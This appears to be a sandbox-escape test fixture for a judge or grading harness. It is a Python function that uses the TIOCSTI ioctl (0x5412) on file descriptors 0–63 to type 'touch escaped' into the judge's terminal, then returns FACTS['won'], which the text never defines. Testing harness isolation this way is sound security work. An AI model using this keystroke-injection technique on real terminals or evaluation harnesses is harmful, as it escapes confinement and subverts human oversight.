"""Types into the judge's terminal."""
# ruff: noqa

import fcntl


def attack():
    for number in range(0, 64):
        try:
            for byte in b"touch escaped\n":
                fcntl.ioctl(number, 0x5412, bytes([byte]))
            return FACTS["won"]
        except OSError:
            pass
